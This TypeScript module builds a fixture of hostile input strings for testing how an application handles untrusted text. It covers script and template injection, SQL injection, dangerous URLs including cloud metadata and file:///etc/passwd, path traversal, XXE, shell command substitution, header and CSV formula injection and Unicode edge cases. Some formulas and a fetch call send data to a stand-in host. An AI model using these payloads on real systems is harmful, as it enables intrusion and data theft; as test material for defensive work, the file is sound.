import bigList from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }

/**
 * Strings that anyone may send where a text is expected: the kinds of public lists of hostile strings, built from small tables.
 * No string may run, send a request, leave its place or be lost. Code sets `window.broken`; addresses point to hosts that do not
 * exist.
 */
export const hostileKinds = {
  scripts: scripts(),
  templates: lines(String.raw`
    {{7*7}}
    {{constructor.constructor('window.broken=1')()}}
    ${'${7*7}'}
    ${"${alert('broken')}"}
    #{7*7}
    <%= 7*7 %>
    [[7*7]]
    *{7*7}
    %{count}
    %{smart_count}
    %{id} |||| %{mid}
    one |||| several
    ||||
    $& $1 $$ $\u0060
    {0} {1} {name}
    @(7*7)
    ~[7*7]
    {% raw %}x{% endraw %}
  `),
  sql: ["'", '"', "')", '`']
    .flatMap((quote) => ['; drop table ledger_order; --', ' or 1=1 --'].map((rest) => quote + rest))
    .concat(
      lines(String.raw`
    1; select pg_sleep(9)
    ' union select password from operator --
    x' and 1=(select count(*) from operator) --
    %' or name like '%
    100%
    _______
    \'; --
    $$; drop table audit; $$
    :name
    ?1
    a" OR "a" NEAR b*
    NEAR/2 AND NOT OR
    {"$ne": null}
    '||(select 1)||'
  `),
    ),
  addresses: [
    'javascript',
    'JaVaScRiPt',
    ' javascript',
    'java\tscript',
    'java\nscript',
    '\u0001javascript',
    'vbscript',
  ]
    .map((scheme) => `${scheme}:window.broken=1`)
    .concat(
      lines(String.raw`
    javascript://hostile.invalid/%0awindow.broken=1
    data:text/html,<script>window.broken=1</script>
    data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=
    data:image/svg+xml,<svg onload=window.broken=1 xmlns='http://www.w3.org/2000/svg'/>
    //hostile.invalid/x
    \\hostile.invalid\x
    /\hostile.invalid
    https:hostile.invalid
    https://hostile.invalid/
    http://hostile.invalid/x.png
    https://127.0.0.1@hostile.invalid/
    https://hostile.invalid#@127.0.0.1
    https://xn--80ak6aa92e.invalid/
    https://аррӏе.invalid/
    http://[::1]/
    http://2130706433/
    http://169.254.169.254/latest/meta-data/
    file:///etc/passwd
    blob:https://hostile.invalid/1
    view-source:https://hostile.invalid
    mailto:x@hostile.invalid?bcc=y@hostile.invalid
    tel:+1
    ws://hostile.invalid
    about:blank
    chrome://settings
    ?mid=mer_2&filter={}
    #/orders
  `),
    ),
  directions: around(
    '\u061C \u200E \u200F \u202A \u202B \u202C \u202D \u202E \u2066 \u2067 \u2068 \u2069'.split(' '),
    (mark) => [`${mark}gpj.exe`, `pay${mark}lap`, `1250.50${mark}`],
  ),
  invisible: around(
    '\u00AD \u034F \u115F \u17B4 \u180E \u200B \u200C \u200D \u2060 \u2061 \u206F \u3164 \uFE0F \uFEFF \uFFA0 \u{E0001} \u{E0041} \u2028 \u2029 \uFFF9'.split(
      ' ',
    ),
    (letter) => [letter, `ad${letter}min`],
  ),
  controls: [...range(0, 0x1f), ...range(0x7f, 0x9f)].map((code) => `a${String.fromCharCode(code)}b`),
  blanks: [
    '',
    ' ',
    '\t',
    '\n',
    '\r\n',
    '\u00A0',
    '\u3000',
    '\u2007',
    '\u205F',
    ' a',
    'a ',
    ' a  b ',
    '\u1680a',
  ],
  towers: ['Z', 'e', 'ا', '山', '1'].flatMap((letter) => [
    letter + '\u0301'.repeat(60),
    letter + '\u0300\u0489\u0321\u035C\u1DC4'.repeat(8),
    `${letter}\u20DD\u20E3`,
  ]),
  halves: [
    '\uD800',
    '\uDC00',
    'a\uD83D',
    '\uDE00a',
    '\uDE00\uD83D',
    'x\uDBFF\uDBFFy',
    '\uFFFE',
    '\uFFFF',
    '\uFFFD',
    '\u{10FFFF}',
    '\u{1FFFE}',
    '\uFDD0',
    '\uE000',
  ],
  otherScripts: lines(`
    山田 太郎
    田中さんにあげて下さい
    사회과학원
    แม่น้ำ
    हिन्दी ज़िन्दगी
    محمد بن عبد الله
    שָׁלוֹם עֲלֵיכֶם
    ՀԱՅԵՐԵՆ
    ქართული
    አማርኛ
    ᏣᎳᎩ
    ᚠᛇᚻ᛫ᛒᛦᚦ
    𠜎𠜱𠝹𠱓
    𝕋𝕙𝕖 𝓆𝓊𝒾𝒸𝓀
    𐌀𐌁𐌂
    Ｔｈｅ ｑｕｉｃｋ
    ﷽
    ﷺ
    ﬁnance ﬂow
    İstanbul ıssız
    STRASSE straße ẞ
    ΌΣΟΣ όσος
    Ǆ ǅ ǆ
    раураl
    аdmin
    gоogle
    Ꮪervice
    A\u030Angström Ångström Å
    ½ ² ① Ⅷ
    ¿Qué? ¡Sí!
    Ω≈ç√∫˜µ≤≥÷
    ¸˛Ç◊ı˜Â¯˘¿
    ⅛⅜⅝⅞
    ⁰⁴⁵₀₁₂
    ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ
    ( ͡° ͜ʖ ͡°)
    ┬─┬ノ( º _ ºノ)
    ˙ɐnbᴉlɐ ɐuƃɐɯ
  `),
  emoji: '😀 👩‍🚀 👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 🏴‍☠️ 🇵🇹 🇺🇳🇸🇪 1️⃣ ❤️‍🔥 🧑🏿‍🤝‍🧑🏻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👩\u200Dadmin 😀😀😀😀😀😀😀😀😀😀 🫠 ☎︎'.split(' '),
  long: [
    'x'.repeat(300),
    'W'.repeat(1000),
    'word '.repeat(400),
    '0'.repeat(700),
    '😀'.repeat(200),
    'ا'.repeat(500),
    '山'.repeat(500),
    'a-'.repeat(400),
    '<b>'.repeat(300),
    '&amp;'.repeat(300),
    `${'('.repeat(300)}${')'.repeat(300)}`,
    '\u202E'.repeat(60),
    'x'.repeat(8000),
  ],
  numbers: lines(`
    0
    -0
    00123
    007
    .5
    1.
    1e5
    1E-7
    1e309
    -1e309
    NaN
    -Infinity
    Infinity
    0x1F
    0b1
    0o7
    1_000
    1,000.00
    1.000,00
    1'000
    9007199254740993
    123456789012345678901234567890.123456789012345678
    -12.50
    +12.50
    --1
    (12.50)
    12.50-
    50%
    $1
    €1,50
    ١٢٣
    １２３
    ௧௨௩
    Ⅻ
    1/2
    1-2
    3-4-5
    2026-02-30
    1.2.2026
    12:30
    MARCH1
    SEPT2
    1E2E3
    TRUE
    4111111111111111
  `),
  formulas: formulas(),
  names: lines(`
    __proto__
    constructor
    prototype
    hasOwnProperty
    toString
    valueOf
    __defineGetter__
    __lookupSetter__
    length
    then
    toJSON
    children
    key
    ref
    dangerouslySetInnerHTML
    location
    broken
    undefined
    undef
    null
    NULL
    (null)
    nil
    None
    NaN
    true
    false
    yes
    [object Object]
    -
    --
    CON
    PRN
    AUX
    NUL
    COM1
    LPT1
    admin
    root
    create
    show
    new
    *
    all
  `),
  paths: lines(String.raw`
    .
    ..
    ../../etc/passwd
    ..\..\windows\win.ini
    ..%2f..%2fetc%2fpasswd
    ..%252f
    ....//
    /etc/passwd%00.png
    /dev/null
    C:\
    ~root
    %
    %00
    %2e%2e
    %ff%fe
    %u202e
    a/b
    a?b=c#d
    a&b=c
    ;jsessionid=1
    \u0000
    \x00
  `),
  formats: lines('%s%s%s%n %x%x%x %d %p %99999d %@ %i {0:x} %(name)s %1$s \\n \\0 \\'.replaceAll(' ', '\n')),
  json: lines(String.raw`
    {
    {}
    []
    {"broken":1}
    "},"broken":{"
    ","status":"asset_settled
    \"
    \\
    \u0022
    null,
    //
    /* x */
    {"__proto__":{"broken":1}}
    )]}',
  `),
  headers: ['\r\n', '\n', '\r', '\u2028', '%0d%0a'].flatMap((end) => [
    `a${end}Set-Cookie: broken=1`,
    `a${end}${end}<script>window.broken=1</script>`,
    `a${end}MID: mer_2`,
  ]),
  terminals: [
    '[2J',
    ']0;broken\u0007',
    '[31m',
    'c',
    'P$q\u001B\\',
    '[6n',
    ']8;;https://hostile.invalid\u0007x',
  ].map((code) => `\u001B${code}`),
  shells: lines(
    '$(touch broken)\n`touch broken`\n; touch broken\n| touch broken\n&& touch broken\n> broken\n$HOME\n%PATH%\n!!\n() { :; }; touch broken\n-rf\n--help',
  ),
  markup: lines(String.raw`
    <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
    <![CDATA[x]]>
    ]]>
    <?xml version="1.0"?>
    <!-- x
    -->
    &lt;b&gt;
    &#x202e;
    &nbsp;
    _x0041_
    _x000D_x
    _x005F_x0041_
    **bold** [x](javascript:window.broken=1)
    ![x](https://hostile.invalid/x.png)
    [[x]]
    # x
    </td></tr></table>
    </textarea>
    </bdi></span>
    <base href=//hostile.invalid>
    <meta http-equiv=refresh content=0;url=//hostile.invalid>
    <link rel=stylesheet href=//hostile.invalid>
    <form action=//hostile.invalid><input>
    <plaintext>
  `),
  tables: [
    '"',
    '""',
    'a","b',
    'a;b',
    'a\tb',
    'a,b',
    'a\nb',
    'a\r\nb',
    '\na',
    '"\r\n=1+1',
    'sep=;',
    "'",
    "''a",
    "'=1+1",
  ],
  patterns: lines(String.raw`
    ^(a+)+$
    [
    (?=
    \
    .*
    (.*)*\1
  `),
} satisfies Record<string, readonly string[]>

/** Each string once. */
export const hostileStrings: readonly string[] = [
  ...new Set([...Object.values(hostileKinds).flat(), ...bigList]),
]

function scripts(): string[] {
  const codes = ['window.broken=1', "alert('broken')", "fetch('https://hostile.invalid/x')"]
  return codes.flatMap((code) => [
    `<script>${code}</script>`,
    `<ScRiPt >${code}</sCrIpT>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<img src=x onerror="${code}">`,
    `<IMG """><SCRIPT>${code}</SCRIPT>">`,
    `"><svg onload=${code}>`,
    `'autofocus onfocus='${code}' x='`,
    `</title></style></textarea><body onload=${code}>`,
    `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    `<details open ontoggle=${code}>`,
    `<a href="javascript:${code}">x</a>`,
    `<math><mi xlink:href="data:x,<script>${code}</script>">`,
    `<style>@import'https://hostile.invalid/x'</style><b style="background:url(https://hostile.invalid)">`,
    `<video><source onerror=${code}></video>`,
    `<x contenteditable onblur=${code}>lose focus`,
    `<template><script>${code}</script></template>`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
    `%3Cscript%3E${code}%3C/script%3E`,
    `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
    `＜script＞${code}＜/script＞`,
    `';${code};//`,
    `\`;${code};//`,
    `--></script><script>${code}</script>`,
  ])
}

function formulas(): string[] {
  const bodies = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://hostile.invalid/?"&A1,"x")',
    'SUM(A1:A9)',
    'WEBSERVICE("https://hostile.invalid")',
  ]
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
  const hidden = [' ', '\t', '\r', '\n', '\0', '\u200B', '\uFEFF', '\u00A0', "'", '"', '\u202E', '\u0001']
  return [
    ...signs.flatMap((sign) => bodies.map((body) => sign + body)),
    ...hidden.flatMap((before) => ['=', '@'].map((sign) => `${before}${sign}SUM(A1:A9)`)),
    '=',
    '+',
    '@',
    '{=1+1}',
    'of:=1+1',
    ';=1+1',
    ',=1+1',
    'a\n=1+1',
    '=-=',
    '+1 555 0100',
    '-1 person',
  ]
}

function around(marks: readonly string[], put: (mark: string) => string[]): string[] {
  return marks.flatMap(put)
}

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, n) => from + n)
}

/** The lines of a table, without indentation. */
function lines(table: string): string[] {
  return table
    .split('\n')
    .map((line) => line.trimStart())
    .filter((line) => line !== '')
}
